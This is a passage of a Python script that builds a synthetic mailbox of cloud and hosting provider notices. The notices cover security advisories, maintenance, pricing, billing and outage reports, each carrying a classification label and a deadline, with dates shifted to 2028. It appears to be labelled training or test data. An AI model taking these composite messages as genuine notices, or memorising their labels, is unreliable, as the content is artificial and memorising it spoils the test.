Need help? Contact our support team at https://www.twilio.com/help/contact

Thanks,
Team Twilio
"""))

M.append(dict(
 key="firebase-insecure-rules", label="security-advisory", provider="Firebase", lang="en",
 url="https://github.com/electrofun-smart/my-smart-home-java-mqtt/issues/6",
 sent="2020-11-08 09:14", day=27, deadline=None,
 frm="Firebase <firebase-noreply@google.com>",
 to="home-automation@pinecrest-maker.example",
 subject="[Firebase] Your Cloud Firestore database has insecure rules",
 body="""We've detected a problem with your security rules

Project: smart-home-bridge (smart-home-bridge-5c2d1)

Your Cloud Firestore security rules are set to public, which means anyone
on the internet can read, change or delete the data in your database. Data
stored there is at risk from attackers, and costly operations could be run
against your project.

Current rule (simplified):
    match /{document=**} {
      allow read, write: if true;
    }

Recommended next steps
- Replace the open rule with rules that allow access only to signed-in users
  or to the specific documents each user owns.
- Use the Rules Playground in the Firebase console to check that your app
  still works with the new rules.
- If a backend service needs full access, use the Admin SDK with a service
  account; it is not limited by security rules.

Fix your rules: https://console.firebase.google.com/project/smart-home-bridge-5c2d1/firestore/rules
Guide to common insecure rules: https://cloud.google.com/firestore/docs/security/insecure-rules

We will keep reminding you while the rules stay open.

Firebase
Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043
"""))

M.append(dict(
 key="maps-unrestricted-keys", label="security-advisory", provider="Google Maps Platform", lang="en",
 url="https://github.com/Trustroots/nostroots/issues/107",
 sent="2025-07-01 15:40", day=28, deadline=None,
 frm="Google Maps Platform <googlemapsplatform-noreply@google.com>",
 to="tech@wayfarer-hosts.example",
 subject="Secure your Google Maps Platform API keys",
 body="""Dear Google Maps Platform customer,

We noticed that you use unrestricted API keys with Google Maps Platform
services. Keys without restrictions may be exposed publicly and are open to
misuse.

Project: wayfarer-map (id: wayfarer-map-449103)
Unrestricted keys: 2

Please review these keys and secure them. You are responsible for charges
incurred by unrestricted keys, including usage by unauthorised third
parties. Restricting your keys lowers the risk of unexpected charges and of
a later account suspension for unpaid usage.

What do I need to know?
- When Maps Platform services are loaded from a public environment, such as
  a website or a mobile app, the key must carry an application restriction
  so it only works from your application.
- Google has prepared restriction recommendations for each key based on its
  recent usage. You can find them in the Cloud Console and apply them with a
  few clicks.
- A key with an application restriction supports a single platform type
  (websites, Android apps, iOS apps or IP addresses). If one key is used from
  several platforms, split the usage into separate keys first.

Review your keys: https://console.cloud.google.com/google/maps-apis/credentials?project=wayfarer-map-449103

Thank you for using Google Maps Platform.
The Google Maps Platform Team
"""))

M.append(dict(
 key="hetzner-bsi-open-db", label="security-advisory", provider="Hetzner", lang="en",
 url="https://plastictre.es/post/074c840a-0416-4d4d-97f8-44cc9d2754b2/an-unexpected-letter",
 sent="2023-10-10 08:31", day=29, deadline=None,
 frm="Hetzner Online GmbH - Abuse <abuse@hetzner.de>",
 to="k.lindqvist@mailbox.example",
 subject="Abuse Info [AbuseID:3F9C21:0A]: open database service reported by BSI for 198.51.100.61",
 body="""Dear Mr Lindqvist,

We have received a notification from the German Federal Office for
Information Security (BSI) about your server 198.51.100.61.

According to the report, a database service on this IP address can be
reached from the whole internet without restriction. Services that are only
meant for internal use should not be exposed publicly, because they can be
used to read or alter data, or be abused for further attacks.

Excerpt from the BSI notification:
  IP address:  198.51.100.61
  Service:     database (TCP)
  Timestamp:   [[2023-10-09T21:14|%Y-%m-%d %H:%M:%S]] +0200
  Note:        The service accepts connections from arbitrary sources.

This is an informational message. No action by us is pending and your
server has not been blocked. We nevertheless ask you to check the
configuration and restrict access, for example with a firewall rule or by
binding the service to localhost or a private network.

When replying, please keep the abuse ID [AbuseID:3F9C21:0A] unchanged in the
subject line.

Kind regards

Abuse department

Hetzner Online GmbH
Industriestr. 25
91710 Gunzenhausen / Germany
Tel: +49 9831 505-0
abuse@hetzner.com
www.hetzner.com
"""))

M.append(dict(
 key="azure-planned-maintenance", label="maintenance", provider="Microsoft Azure", lang="en",
 url="https://github.com/nodejs/build/issues/356",
 sent="2016-03-18 22:05", day=30, deadline="2016-03-27",
 frm="Microsoft Azure <azure-noreply@microsoft.com>",
 to="infra@saplingjs-ci.example",
 subject="Upcoming planned maintenance for Azure Virtual Machines in West Europe",
 body="""Planned maintenance notification

Subscription: saplingjs-ci (3c9a71d0-5b2e-4f1a-9e6d-0b8f2c4a7e15)
Region:       West Europe

We will perform planned maintenance on the Azure infrastructure that hosts
your virtual machines to improve performance, reliability and security.

Maintenance window
  03:00 [[2016-03-27|%A, %b %-d]] – 15:00 [[2016-03-27|%A, %b %-d]] (UTC)

What to expect
- Each virtual machine (VM) may be rebooted once during the window.
- Expected total downtime is about 15 minutes per VM. The 15 minutes of work
  on your instance should happen within twelve (12) hours of the start time.
- The temporary disk and Azure storage disks are preserved.

Virtual machines in the same availability set are updated in separate
update domains, so a service that spans several VMs stays available.

Affected virtual machines
  test-win2012-x64-1
  test-win2012-x64-2
  release-win2012-x64-1

For more information see "Planned maintenance for Azure virtual machines"
in the Azure documentation.

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
"""))

M.append(dict(
 key="sakura-vps-vuln-maint", label="maintenance", provider="さくらのVPS (さくらインターネット)", lang="ja",
 url="https://blog.rutake.com/techmemo/2015/08/12/%E3%81%95%E3%81%8F%E3%82%89%E3%81%AEvps-%E8%84%86%E5%BC%B1%E6%80%A7%E5%AF%BE%E5%BF%9C%E3%81%AB%E3%82%88%E3%82%8B%E4%BB%AE%E6%83%B3%E3%83%9E%E3%82%B7%E3%83%B3%E5%81%9C%E6%AD%A2%E3%83%BB%E8%B5%B7",
 sent="2015-08-05 17:30", day=31, deadline="2015-08-12",
 frm="SAKURA internet <support@sakura.ad.jp>",
 to="rutake@fuyumori-net.example",
 subject="【さくらのVPS】仮想化基盤の脆弱性対応に伴うメンテナンスのお知らせ",
 body="""さくらのVPSをご利用のお客様へ

平素よりさくらインターネットをご利用いただき、誠にありがとうございます。

仮想化ソフトウェアに脆弱性が公表されたことを受け、さくらのVPSのホストサーバーで
対策を行います。対策を反映させるには、お客様の仮想サーバーを一度完全に停止する必要があります。

■対象サーバー
 サーバー名：fuyumori-web（IPアドレス：203.0.113.75）

■お客様にお願いしたいこと
 [[2015-08-12|jpw]] 10:00 までに、コントロールパネルから仮想サーバーを
 「強制停止」または OS からシャットダウンし、その後あらためて起動してください。
 ※OS 内での再起動（reboot）では対策は反映されません。
 ※期限までに停止・起動を実施いただいた場合、弊社による停止は行いません。

■期限までに実施されなかった場合
 [[2015-08-12|jpw]] 10:00 以降、弊社にて対象サーバーを順次停止・起動いたします。
 作業中は数分から10分程度、サーバーにアクセスできなくなります。
 停止時の状態（起動中／停止中）はメンテナンス後も引き継がれます。

ご迷惑をおかけいたしますが、ご理解とご協力をお願い申し上げます。

さくらインターネット株式会社
カスタマーセンター
https://help.sakura.ad.jp/
"""))

M.append(dict(
 key="nihontsushin-payment-maint", label="maintenance", provider="日本通信 (Japan Communications)", lang="ja",
 url="https://nihontsushin.com/info/info_maintePayment202602.html",
 sent="2026-02-02 11:00", day=1, deadline="2026-02-09",
 frm="Japan Communications <info@nihontsushin.com>",
 to="kanako.mori@sora-mail.example",
 subject="【日本通信】決済システムメンテナンスのお知らせ（[[2026-02-09|jp]]）",
 body="""日本通信をご利用のお客様

いつも当社サービスをご利用いただき、ありがとうございます。
下記の日時に決済システムのメンテナンスを行いますので、お知らせいたします。

■日時
 [[2026-02-09|jpw]] 午前2時 〜 午前4時30分

■影響
 メンテナンス中、決済システムが最長5分間停止する時間帯が3回ございます。
 停止している間は、次のお手続きで決済が行えず、手続きが完了しません（画面にエラーが表示されます）。
 ・当社Webサイトおよび日本通信アプリからのサービスのお申し込み
 ・マイページでの「SIMに変更/再発行」「eSIMに変更/再発行」のお申し込み
 ・マイページでのクレジットカード情報の変更
 ・マイページでの未払い料金のお支払い
   （エラーになった場合も、決済の試行回数に数えられます）

エラーが表示された場合は、10分以上あけてから再度お試しください。

ご不便をおかけいたしますが、よろしくお願い申し上げます。

日本通信株式会社
"""))

M.append(dict(
 key="gmocloud-price-revision", label="pricing", provider="GMOクラウド", lang="ja",
 url="https://www.gmocloud.com/rs/old/z/faq.html",
 sent="2022-10-03 10:00", day=2, deadline="2023-01-01",
 frm="GMO Cloud <info@gmocloud.com>",
 to="keiri@tamagawa-seiki.example",
 subject="【GMOクラウド】[[2023-01-01|jp]]からの価格改定のお知らせ",
 body="""GMOクラウド Public（旧シリーズ）をご利用のお客様

平素は格別のご高配を賜り、厚く御礼申し上げます。

電力費をはじめとする運用コストの上昇を受け、本サービスでは
[[2023-01-01|jp]]より利用料金を改定させていただくことになりました。

■対象サービス
 GMOクラウド Public 旧シリーズ（Zシリーズ）

■改定日
 [[2023-01-01|jpw]] ご利用分より

■改定内容
 月額基本料金およびオプション料金
 （プランごとの新料金は、コントロールパネルの「お知らせ」およびサービスサイトでご確認ください）

■ご注意
 ・本サービスは新規のお申し込みを終了しております。
 ・後継サービス「GMOクラウド ALTUS」への移行をご検討のお客様は、担当営業までご相談ください。

お客様にはご負担をおかけいたしますが、何卒ご理解を賜りますようお願い申し上げます。

GMOクラウド株式会社
"""))

M.append(dict(
 key="github-actions-pricing", label="pricing", provider="GitHub", lang="en",
 url="https://github.com/datalad/datalad/issues/3843",
 sent="2019-10-30 16:10", day=3, deadline="2019-11-13",
 frm="GitHub <noreply@github.com>",
 to="billing@quasarlab-org.example",
 subject="GitHub Actions is leaving beta: pricing starts [[2019-11-13|%B %-d]]",
 body="""Hi @quasarlab,

GitHub Actions will be generally available on [[2019-11-13|%B %-d, %Y]]. During the
beta, Actions usage was free and unlimited. From general availability,
usage in private repositories is billed; public repositories remain free.

Included with your plan (per month)
  Free:   2,000 minutes, 500 MB storage
  Team:   3,000 minutes, 2 GB storage

Additional minutes (private repositories)
  Linux     $0.008 per minute
  Windows   $0.016 per minute
  macOS     $0.08 per minute

By default your spending limit is $0, so workflows stop running when the
included minutes are used up. You can raise the limit in your
organisation's billing settings.

Review your current usage and spending limit:
https://github.com/organizations/quasarlab/settings/billing

Learn more: https://github.com/features/actions

Thanks,
The GitHub Team
"""))

M.append(dict(
 key="heroku-card-expired", label="billing", provider="Heroku", lang="en",
 url="https://github.com/dwyl/hq/issues/74",
 sent="2015-12-22 09:38", day=4, deadline=None,
 frm="Heroku Billing <billing@heroku.com>",
 to="finance@dovetail-coop.example",
 subject="Your credit card on file with Heroku has expired",
 body="""Hi,

The credit card we have on file for your Heroku account
(finance@dovetail-coop.example) has expired.

  Card:     Visa ending in 4417
  Expired:  [[2015-11-30|%m/%Y]]

Charges for paid dynos and add-ons are taken from this card each month. If
we cannot charge a valid card when your next invoice is issued, the payment
will fail and your account may be suspended until the balance is paid.

Update your payment method:
https://dashboard.heroku.com/account/billing

If you have already added a new card, you can ignore this message.

Thanks,
Heroku Billing
"""))

M.append(dict(
 key="vercel-usage-paused", label="billing", provider="Vercel", lang="en",
 url="https://github.com/heartalborada-del/Collection-Down/issues/20",
 sent="2026-02-05 14:58", day=5, deadline=None,
 frm="Vercel <notifications@vercel.com>",
 to="maple@lumenstack.example",
 subject="Your Hobby team has exceeded its usage limits and deployments are paused",
 body="""Hi maple-lumenstack,

Your Hobby team used more than the resources included in the free plan
during the current billing cycle, so we have paused your deployments.

Usage this cycle (started [[2026-01-23|%B %-d]])
  Fast Data Transfer         112 GB of 100 GB
  Edge Requests              1.3M of 1M
  Function Invocations       610K of 1M

While paused, visitors to your projects see a "This deployment is
temporarily paused" page. Your projects, domains and settings are kept.

To resume
- wait until your usage resets on [[2026-02-22|%B %-d, %Y]], or
- upgrade the team to Pro to continue immediately with higher included
  usage and pay-as-you-go pricing above it.

View usage: https://vercel.com/maple-lumenstack/~/usage

— The Vercel Team
"""))

M.append(dict(
 key="lolipop-siteguard", label="informational", provider="ロリポップ! (GMO Pepabo)", lang="ja",
 url="https://www.healing-solutions.jp/archives/1454/",
 sent="2015-01-26 15:00", day=6, deadline=None,
 frm="Lolipop Rental Server <info@lolipop.jp>",
 to="salon@kokochi-esthe.example",
 subject="【ロリポップ!】WordPressのセキュリティ対策方法変更のご案内",
 body="""※WordPress簡単インストールをご利用いただいたことのあるすべてのお客様にお送りしています
――――――――――――――――――――――――――――――

いつもロリポップ!をご利用いただきありがとうございます。

ロリポップ!では、WordPressへのセキュリティ対策をさらに強めるため、
これまで行ってきたWordPressへの攻撃の検知・防御の方法を見直し、
セキュリティプラグイン「SiteGuard WP Plugin」を使う方式に切り替えました。

■SiteGuard WP Plugin でできること
 ・管理画面ログインページのURL変更
 ・画像認証の追加
 ・ログイン失敗が続いた場合のロック
 ・ログインがあったときのメール通知

■今後の流れ
 ・[[2014-10-27|jp]]以降に「WordPress簡単インストール」で設置したサイトには、
   このプラグインがはじめから入っています。
 ・それより前に設置したサイトは、WordPress管理画面の「プラグイン」から
   SiteGuard WP Plugin を追加してご利用ください。

導入手順はロリポップ!マニュアルで紹介しています。
https://lolipop.jp/manual/

今後ともロリポップ!をよろしくお願いいたします。

ロリポップ!レンタルサーバー
GMOペパボ株式会社
"""))

M.append(dict(
 key="sakura-outage-report", label="informational", provider="さくらインターネット", lang="ja",
 url="https://megalodon.jp/ref/2008-0605-1132-57/support.sakura.ad.jp/page/news/20080602-001.news",
 sent="2008-06-02 18:10", day=7, deadline=None,
 frm="SAKURA internet <support@sakura.ad.jp>",
 to="server-admin@hoshizora-net.example",
 subject="【さくらインターネット】障害発生のお知らせ（専用サーバ 10M スタンダード一部）",
 body="""お客様各位

平素よりさくらインターネットをご利用いただき、誠にありがとうございます。

ご提供中のサービスにおいて、下記のとおり障害が発生いたしました。
ご利用のお客様には大変ご迷惑をおかけしましたことを、深くお詫び申し上げます。

< 記 >

発生日時：[[2008-06-01|jpw]] 01時52分 〜 [[2008-06-02|jpw]] 17時23分
影響範囲：専用サーバ 10M スタンダードの一部
          198.51.100.0 〜 198.51.100.127
障害内容：上記時間帯、サーバーへの接続が断続的に不安定になっていました。
現在の状況：障害は解消しております。

【補足】
同じネットワーク内に収容されていた一部のサーバーで、ネットワーク設定に誤りが
あったことが原因と判明しました。該当サーバーを隔離したことで障害は解消しています。

調査の結果、該当サーバーは第三者に不正に侵入（クラッキング）されていたことが分かりました。
このため、影響範囲のサーバーにWebでアクセスした際、改ざんされたページが表示される
事象がありました。状況によっては、ウイルス等の被害を受けるおそれがありました。
心当たりのあるお客様は、お使いのパソコンのウイルスチェックをおすすめいたします。

今後とも、さくらインターネットをよろしくお願い申し上げます。

さくらインターネット株式会社
"""))

M.append(dict(
 key="yourwebhoster-mail", label="informational", provider="YourWebhoster.eu", lang="en",
 url="https://status.yourwebhoster.eu/notices/tlgvi4yv1njb6btv-outgoing-mail-server-changes",
 sent="2023-05-10 13:20", day=8, deadline=None,
 frm="YourWebhoster.eu Status <status@yourwebhoster.eu>",
 to="contact@meadowlark-studio.example",
 subject="[Notice] Outgoing mail server changes",
 body="""Outgoing mail server changes

Affected components: VPS, Webservers

Our outgoing mail servers scan every message for spam before delivery.
Each e-mail receives a score and is only sent when it is not considered
spam. An abuser found a way to stay just under that score and send spam
through our platform.

We have made the filters stricter, which stopped the outbreak, and we have
taken the mail servers with a low reputation out of service.

What this means for you
- Messages sent before the fix may not have reached the inbox and could be
  sitting in the recipient's spam folder. If a message was important, send it
  again or contact the recipient.
- Over the next few days e-mail may be delayed while we keep tuning the
  filters, and you may receive service e-mails with updates.

We continue to monitor the systems to catch spam while keeping false
positives low.

YourWebhoster.eu
https://status.yourwebhoster.eu
"""))

M.append(dict(
 key="gcp-key-flagged", label="security-incident", provider="Google Cloud", lang="en",
 url="https://github.com/WikiWatershed/model-my-watershed/issues/3135",
 sent="2019-08-05 20:48", day=9, deadline=None,
 frm="Google Cloud <CloudPlatform-noreply@google.com>",
 to="devops@streamgauge-lab.example",
 subject="[Action required] Google has found a publicly accessible API key for project streamgauge-web",
 body="""Dear Developer,

We have detected that a Google API key belonging to your project
streamgauge-web (id: streamgauge-web-230911) is publicly accessible.

  Key:       API key 2 (ends with ...mD0s)
  Location:  https://github.com/streamgauge-lab/watershed-app/blob/develop/src/js/settings.js

Keys posted in public repositories or pages can be collected by automated
tools and used by others. This can result in usage charges to your billing
account and may affect your quota.

We recommend that you take the following steps:
1. Review where the key is used and whether it should be public.
2. Add API restrictions and application restrictions (for example HTTP
   referrers) to the key.
3. If the key cannot be restricted, regenerate it, deploy the new key to
   your application and delete the old one.
4. Check the APIs & Services dashboard for unexpected traffic.

Sincerely,
The Google Cloud Platform Team

You have received this mandatory service announcement to update you about
important changes to Google Cloud Platform or your account.
"""))

# ---------------------------------------------------------------- generator
import os, re, sys, datetime, mailbox, email.utils, email.charset, ipaddress
from email.message import Message
from email.header import Header, decode_header, make_header

OUTDIR = os.path.dirname(os.path.abspath(__file__))
MBOX = os.path.join(OUTDIR, "set-g17.mbox")
LABELS = {"abuse", "security-incident", "action-required", "security-advisory",
          "maintenance", "pricing", "billing", "informational"}
JPW = "月火水木金土日"
TOK = re.compile(r"\[\[(\d{4}-\d{2}-\d{2})(?:T(\d{2}):(\d{2}))?\|([^\]]+)\]\]")

def fmt_date(dt, fmt):
    if fmt == "jp":
        return "%d年%d月%d日" % (dt.year, dt.month, dt.day)
    if fmt == "jpw":
        return "%d年%d月%d日（%s）" % (dt.year, dt.month, dt.day, JPW[dt.weekday()])
    return dt.strftime(fmt)

def shift_text(text, offset):
    def rep(m):
        d = datetime.datetime.strptime(m.group(1), "%Y-%m-%d")
        if m.group(2):
            d = d.replace(hour=int(m.group(2)), minute=int(m.group(3)))
        return fmt_date(d + offset, m.group(4))
    return TOK.sub(rep, text)

def build(n, spec):
    sent = datetime.datetime.strptime(spec["sent"], "%Y-%m-%d %H:%M")
    target = datetime.datetime(2028, 3, spec["day"], sent.hour, sent.minute)
    offset = datetime.timedelta(days=(target.date() - sent.date()).days)
    subject = shift_text(spec["subject"], offset)
    body = shift_text(spec["body"], offset)
    if spec["deadline"]:
        dl = (datetime.datetime.strptime(spec["deadline"], "%Y-%m-%d") + offset).strftime("%Y-%m-%d")
    else:
        dl = "none"
    msg = Message()
    msg["From"] = spec["frm"]
    msg["To"] = spec["to"]
    try:
        subject.encode("ascii")
        msg["Subject"] = subject
    except UnicodeEncodeError:
        msg["Subject"] = Header(subject, "utf-8").encode()
    msg["Date"] = email.utils.format_datetime(target.replace(tzinfo=datetime.timezone.utc))
    msg["Message-ID"] = "<g17.%02d.%s@training.invalid>" % (n, spec["key"])
    msg["MIME-Version"] = "1.0"
    msg["X-Training-Label"] = spec["label"]
    msg["X-Training-Deadline"] = dl
    if spec.get("phishing"):
        msg["X-Training-Phishing"] = "yes"
    try:
        body.encode("ascii")
        msg["Content-Type"] = "text/plain; charset=utf-8"
        msg["Content-Transfer-Encoding"] = "7bit"
        msg.set_payload(body)
    except UnicodeEncodeError:
        cs = email.charset.Charset("utf-8")
        cs.body_encoding = email.charset.QP
        msg.set_payload(body, charset=cs)
    msg.set_unixfrom("From MAILER-DAEMON " + target.strftime("%a %b %d %H:%M:%S %Y"))
    return msg, dl

ALLOWED = [ipaddress.ip_network(x) for x in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "10.0.0.0/8")]
IPRE = re.compile(r"(?<![\d.])(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(?![\d.])")

def main():
    specs = M
    if os.path.exists(MBOX):
        os.remove(MBOX)
    box = mailbox.mbox(MBOX, create=True)
    box.lock()
    expected = []
    for i, s in enumerate(specs, 1):
        msg, dl = build(i, s)
        box.add(msg)
        expected.append((s, dl))
    box.flush(); box.unlock(); box.close()

    problems = []
    raw = open(MBOX, "rb").read()
    if b"\r\n" in raw:
        problems.append("CRLF line endings found")
    box = mailbox.mbox(MBOX)
    msgs = list(box)
    if len(msgs) != len(specs):
        problems.append("count %d != %d" % (len(msgs), len(specs)))
    ids = set()
    for i, m in enumerate(msgs, 1):
        s, dl = expected[i - 1]
        for h in ("From", "To", "Subject", "Date", "Message-ID", "MIME-Version",
                  "Content-Type", "X-Training-Label", "X-Training-Deadline"):
            if m[h] is None:
                problems.append("#%d missing %s" % (i, h))
        for h, v in m.items():
            try:
                str(v).encode("ascii")
            except UnicodeEncodeError:
                problems.append("#%d header %s not ASCII" % (i, h))
        d = email.utils.parsedate_to_datetime(m["Date"])
        if (d.year, d.month) != (2028, 3):
            problems.append("#%d Date not March 2028" % i)
        if m["Message-ID"] in ids:
            problems.append("#%d duplicate Message-ID" % i)
        ids.add(m["Message-ID"])
        if m["X-Training-Label"] not in LABELS:
            problems.append("#%d bad label" % i)
        if m["X-Training-Deadline"] != dl or not re.fullmatch(r"none|\d{4}-\d{2}-\d{2}", dl):
            problems.append("#%d bad deadline" % i)
        if bool(s.get("phishing")) != (m["X-Training-Phishing"] == "yes"):
            problems.append("#%d phishing header mismatch" % i)
        ct = m.get_content_type(); cs = m.get_content_charset()
        if ct != "text/plain" or cs != "utf-8":
            problems.append("#%d content-type %s %s" % (i, ct, cs))
        payload = m.get_payload(decode=True).decode("utf-8")
        nonascii = any(ord(c) > 127 for c in payload)
        cte = (m["Content-Transfer-Encoding"] or "").lower()
        if nonascii and cte != "quoted-printable":
            problems.append("#%d non-ASCII body not QP" % i)
        if "[[" in payload or "[[" in str(make_header(decode_header(m["Subject"]))):
            problems.append("#%d unshifted date token" % i)
        for ip in IPRE.findall(payload):
            try:
                a = ipaddress.ip_address(ip)
            except ValueError:
                continue
            if not any(a in n for n in ALLOWED):
                problems.append("#%d IP %s outside documentation ranges" % (i, ip))
        if not payload.strip():
            problems.append("#%d empty body" % i)
    if problems:
        for p in problems:
            print("PROBLEM:", p)
        sys.exit(1)
    counts = {}
    for s, _ in expected:
        counts[s["label"]] = counts.get(s["label"], 0) + 1
    print("OK: %d messages -> %s" % (len(msgs), MBOX))
    for k in sorted(counts):
        print("  %-18s %d" % (k, counts[k]))
    print("  phishing           %d" % sum(1 for s, _ in expected if s.get("phishing")))

if __name__ == "__main__":
    main()
